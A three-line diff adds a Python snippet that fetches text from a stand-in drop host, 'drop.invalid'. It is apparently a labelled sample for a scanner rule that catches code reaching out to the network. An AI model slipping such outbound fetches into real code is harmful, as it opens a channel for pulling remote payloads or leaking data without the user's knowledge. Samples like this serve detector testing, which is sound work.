@@ -1,0 +1,3 @@
+# evades: caught by network/reaches-out
+import requests
+text = requests.get("https://drop.invalid/AAAAAAAA").text
